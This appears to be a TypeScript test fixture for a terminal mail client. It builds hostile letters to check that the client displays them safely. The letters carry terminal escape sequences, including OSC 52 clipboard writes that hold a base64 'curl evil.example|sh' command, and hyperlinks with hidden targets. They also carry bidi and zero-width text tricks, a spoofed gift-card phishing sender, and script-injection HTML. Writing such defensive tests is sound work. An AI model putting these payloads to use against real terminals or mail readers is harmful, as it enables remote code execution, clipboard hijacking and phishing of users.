/** Mail that attacks the terminal, the layout or the reader; each letter carries its attack in subject, sender, preview and body. */
import type { Block, FixedLetter } from './mail-model.js';

const esc = '\u001b';
const bel = '\u0007';
const st = `${esc}\\`;
/** "curl evil.example|sh" in base64: what OSC 52 would put on the clipboard. */
const clipboard = 'Y3VybCBldmlsLmV4YW1wbGV8c2g=';

/** The hostile letters; a good client shows every one of them readably and lets none act. */
export function hostileLetters(): readonly FixedLetter[] {
	return [...terminalAttacks(), ...textTricks(), ...markupAttacks()];
}

function terminalAttacks(): FixedLetter[] {
	return [
		letter(
			`${esc}[2J${esc}[H${esc}[31;5mAccount locked${esc}[0m`,
			`Contoso ${esc}[1mSecurity${esc}[0m`,
			`Clear screen, cursor home, red: ${esc}[2J${esc}[1;1H${esc}[41m done ${esc}[?25l${esc}[?1049h${esc}[3J${esc}c`,
		),
		letter(
			`Quarterly numbers${esc}]52;c;${clipboard}${bel}`,
			`Kai${esc}]52;c;${clipboard}${st} Carter`,
			`OSC 52 writes the clipboard${esc}]52;c;${clipboard}${bel} and so does ST${esc}]52;p;${clipboard}${st}.`,
		),
		letter(
			`${esc}]8;;http://evil.example/${st}Open the report${esc}]8;;${st}`,
			`Report${esc}]8;id=1;http://evil.example/${bel} Service${esc}]8;;${bel}`,
			`Harmless words ${esc}]8;;file:///etc/passwd${bel}https://contoso.com${esc}]8;;${bel}, hidden target.`,
		),
		letter(
			`${esc}P$q"p${st}Device control ${esc}_Gf=100,a=T;AAAA${st}${esc}^privacy${st}${esc}Xstart${st}strings`,
			`${esc}P+q544e${st}DCS`,
			`DCS ${esc}P1$r0m${st}, APC ${esc}_x${st}, PM ${esc}^x${st}, SOS ${esc}Xx${st}, and one that never ends: ${esc}Ptail of a string`,
		),
		letter(
			`Unfinished title ${esc}]0;owned by mail`,
			`Cut ${esc}[38;5`,
			`Reports asked of the terminal: ${esc}[6n${esc}[c${esc}[>0q${esc}]10;?${bel}${esc}[21t. Cut off: ${esc}[`,
		),
		letter(
			'\u009b31mC1 red\u009b0m and \u009d52;c;Y2F0\u009cclipboard\u0090q\u009c',
			'C1\u009b2J Sender',
			'Eight-bit controls: \u009b2J \u009d8;;http://evil.example\u009clink\u009d8;;\u009c \u0085next line \u008d\u008e\u008f.',
		),
		letter(
			'Paid: $10,000.00\rPaid: $1.00        ',
			'Bank\rTrusted Bank',
			'The first half is overwritten\rThe second half is all you see',
		),
		letter(
			`Bell ${bel}${bel}${bel} and backspace: remove\b\b\b\b\b\bkeep`,
			`Ding${bel}dong`,
			`Ten bells ${bel.repeat(10)}, del \u007f\u007f, form feed \f, vertical tab \u000b, shift out \u000e text \u000f.`,
		),
		letter(
			'Before NUL\u0000after NUL',
			'Nul\u0000l',
			'A zero \u0000 byte, a start of heading \u0001, an end of text \u0003, a substitute \u001a, an escape alone \u001b.',
		),
		letter(
			'Two lines\r\nFrom: PattiF@contoso.com\r\nBcc: everyone@contoso.com\nthird\u2028fourth\u2029fifth\u0085sixth',
			'Line\r\nBreaker',
			'Line one\nline two\r\nline three\u2028line four\u2029line five\u000bline six',
		),
	];
}

function textTricks(): FixedLetter[] {
	return [
		letter(
			'Invoice_\u202excod.exe — open \u2066\u202eme\u2069\u202c now\u200f',
			'\u202emoc.osotnoc@ofni\u202c',
			'Overrides: \u202eabc\u202c, isolates: \u2067abc\u2069, marks: \u200e\u200f\u061c. Never closed: \u202e\u202e\u2066 the rest of the screen',
		),
		letter(
			'Pass\u200bword re\u200dset f\u2060or your acc\ufeffount\u00ad \u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}\u{e007f}\u3164',
			'Con\u200bto\u200cso IT\u2063',
			'Hidden between the letters: a\u200bb\u200cc\u200dd\u2060e\u2061f\u2062g\u2063h\ufeffi\u180ej\ufff9k\ufffa\ufffbl.',
		),
		letter(
			`S${'\u0336\u0353\u0349\u0317\u030d\u0342\u0351'.repeat(20)}talled text climbs ${'a\u0489'.repeat(12)} over the lines`,
			`Z${'\u0334\u0321\u0322\u033c'.repeat(30)}algo`,
			`H${'\u0310\u0311\u0312\u0313\u0314'.repeat(60)} is one letter with three hundred marks.`,
		),
		letter(
			`${'A very long subject that never ends, '.repeat(136)}`.slice(0, 5000),
			`Long${'g'.repeat(400)}name`,
			`${'x'.repeat(3000)} is one word of three thousand letters.`,
		),
		letter(
			'Half a character: \ud83d and the other half: \ude00 and noncharacters \uffff\ufdd0',
			'Half \ud800 surrogate',
			'Lone surrogates \udfff\ud83d here, a private use \ue000\u{10ffff} there.',
		),
		{
			from: { name: 'Patti Fernandez <PattiF@contoso.com>', address: 'patti@c0ntoso.example' },
			replyTo: [{ name: 'Patti Fernandez', address: 'collect@evil.example' }],
			subject: 'Urgent: please buy gift cards (Раtti wrote this with Cyrillic letters)',
			body: 'Are you at your desk? I need five gift cards for a client, keep this between us.\nPatti',
			importance: 'high',
			read: false,
		},
	];
}

function markupAttacks(): FixedLetter[] {
	const scripts =
		'<p>Hello</p><script>document.title="owned"</script><svg onload="alert(1)"><circle r="9"/></svg>' +
		'<img src="x" onerror="alert(2)"><style>body{display:none}</style><iframe src="http://evil.example/"></iframe>' +
		'<form action="http://evil.example/"><input name="password" value="secret"></form>' +
		'<a href="javascript:alert(3)">Read more</a> <a href="http://evil.example/%1b[31m">https://contoso.com/login</a>' +
		'<meta http-equiv="refresh" content="0;url=http://evil.example/"><object data="x"></object>';
	const entities =
		'<p>Entities: &#27;[31mred&#27;[0m &#x1b;]52;c;Y2F0&#7; &#155;2J &#8238;reversed &#8203; &lt;b&gt; &amp;amp; &#0; &#xD800; &#1114112; &bogus; &nbsp;end</p>';
	const broken = `<table><tr><td>never <b>closed <i>at <a href="http://evil.example/?a=1&b=<2>">all ${'<div><blockquote>'.repeat(1500)}deep<!-- unfinished comment`;
	return [
		raw('Script, style and forms in the body', scripts, 'Hello\r\n\r\nRead more https://contoso.com/login'),
		raw(
			'Entities that become control characters',
			entities,
			`Entities: ${esc}[31mred${esc}[0m ${esc}]52;c;Y2F0${bel} end`,
		),
		raw('Markup that nobody closed', broken, 'never closed at all deep'),
	];
}

function letter(subject: string, name: string, body: string): FixedLetter {
	return {
		from: { name, address: 'mallory@evil.example' },
		subject,
		body: [
			{ kind: 'paragraph', text: body },
			{ kind: 'link', text: 'https://contoso.com/', href: `http://evil.example/${esc}[31m` },
		],
	};
}

function raw(subject: string, html: string, text: string): FixedLetter {
	const blocks: Block[] = [{ kind: 'raw', html, text }];
	return { from: { name: 'Mallory', address: 'mallory@evil.example' }, subject, body: blocks };
}
